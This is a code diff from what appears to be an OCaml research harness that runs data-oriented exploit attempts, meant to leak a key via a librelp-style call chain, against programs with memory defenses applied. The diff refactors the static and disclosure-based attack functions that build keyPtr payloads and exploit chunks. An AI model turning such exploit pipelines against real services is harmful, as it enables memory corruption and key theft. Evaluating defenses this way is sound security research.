@@ -157,17 +157,6 @@ let key_ptr_payload prog =
   let w = width 1 in
   String.init w (fun i -> Char.chr (byte key i))
 
-let judge_session ?backend ?arm applied ~seed ~chunks =
-  let outcome, stats = Runner.run_chunks ?backend ?arm applied ~seed ~chunks in
-  ( Attacks.Verdict.classify outcome
-      ~goal_met:(Dopkit.goal_in_output key_leak_marker stats),
-    Some stats,
-    List.length chunks )
-
-let judge applied ~seed ~chunks =
-  let verdict, _, _ = judge_session applied ~seed ~chunks in
-  verdict
-
 let chain = [ "main"; "relpTcpLstnInit"; "relpTcpChkPeerName" ]
 
 (* Distance from allNames to keyPtr by static binary analysis; against
@@ -203,18 +192,11 @@ let static_distance (applied : Defenses.Defense.applied) ~seed =
           List.assoc "keyPtr" caller_guess - slab_gap
           - List.assoc "allNames" callee_guess)
 
-let attack_static_session ?backend ?arm applied ~seed =
-  match
-    let dist = static_distance applied ~seed in
-    let payload = key_ptr_payload (applied : Defenses.Defense.applied).prog in
-    exploit_chunks ~dist ~payload
-  with
-  | chunks -> judge_session ?backend ?arm applied ~seed ~chunks
-  | exception Invalid_argument _ -> (Attacks.Verdict.No_effect, None, 0)
-
-let attack_static applied ~seed =
-  let verdict, _, _ = attack_static_session applied ~seed in
-  verdict
+let attack_static ?backend applied ~seed =
+  Dopkit.attempt ?backend applied ~seed ~goal:key_leak_marker (fun () ->
+      let dist = static_distance applied ~seed in
+      let payload = key_ptr_payload (applied : Defenses.Defense.applied).prog in
+      exploit_chunks ~dist ~payload)
 
 (* Probe run: plant 'P'*100 then "PROBEVAL" (contiguous in allNames
    only), scan the live stack for the composite needle and for the
@@ -250,13 +232,14 @@ let attack_disclosure applied ~seed =
   in
   match !measured with
   | None -> Attacks.Verdict.No_effect
-  | Some dist -> (
-      match
+  | Some dist ->
+      let craft () =
         exploit_chunks ~dist
           ~payload:(key_ptr_payload (applied : Defenses.Defense.applied).prog)
-      with
-      | chunks -> judge applied ~seed:(Int64.add seed 1L) ~chunks
-      | exception Invalid_argument _ -> Attacks.Verdict.No_effect)
+      in
+      (Dopkit.attempt applied ~seed:(Int64.add seed 1L) ~goal:key_leak_marker
+         craft)
+        .verdict
 
 (* State-disclosure prediction (threat model §III-B: the attacker reads
    all writable memory — including a memory-based PRNG's state, which
